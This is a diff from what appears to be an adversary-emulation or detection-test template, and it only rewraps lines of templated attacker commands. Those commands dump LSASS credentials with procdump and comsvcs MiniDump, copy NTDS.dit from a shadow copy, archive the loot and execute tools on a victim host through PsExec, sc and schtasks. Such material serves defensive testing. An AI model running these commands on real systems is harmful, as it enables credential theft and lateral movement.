@@ -92,11 +92,13 @@ or
 xp: {drop}\procdump64.exe -accepteula -ma lsass.exe {drop}\{rnd}.dmp
 or
 xp: powershell -c "rundll32 C:\Windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id {drop}\{rnd}.bin full"
-  rundll32.exe | "C:\Windows\system32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump {nnn} {drop}\{rnd}.bin full
+  rundll32.exe | "C:\Windows\system32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump {nnn}
+  .. {drop}\{rnd}.bin full
 or
 xp: rundll32 C:\Windows\System32\comsvcs.dll,#24 {nnn} {drop}\{rnd}.log full
 or
-xp: vssadmin create shadow /for=C: & copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{n}\Windows\NTDS\ntds.dit {drop}\{rnd}.dit
+xp: vssadmin create shadow /for=C: & copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{n}\Windows\NTDS\ntds.dit
+.. {drop}\{rnd}.dit
 
 xp: {drop}\7z.exe a -p{rnd} {drop}\{rnd2}.7z {drop}\{rnd}.*
 or
@@ -129,7 +131,8 @@ xp: {drop}\PsExec.exe \\{victim} -accepteula -s -d cmd.exe /c C:\Windows\Temp\{t
 or
 xp: sc \\{victim} create {rnd} binPath= "C:\Windows\Temp\{tool}.exe" & sc \\{victim} start {rnd}
 or
-xp: schtasks /create /s {victim} /tn {rnd} /tr C:\Windows\Temp\{tool}.exe /sc once /st 00:00 & schtasks /run /s {victim} /tn {rnd}
+xp: schtasks /create /s {victim} /tn {rnd} /tr C:\Windows\Temp\{tool}.exe /sc once /st 00:00 & schtasks /run /s
+.. {victim} /tn {rnd}
 """, elsewhere=r"""
 wmi> cmd.exe | cmd.exe /c C:\Windows\Temp\{tool}.exe
   conhost.exe | {conhost}
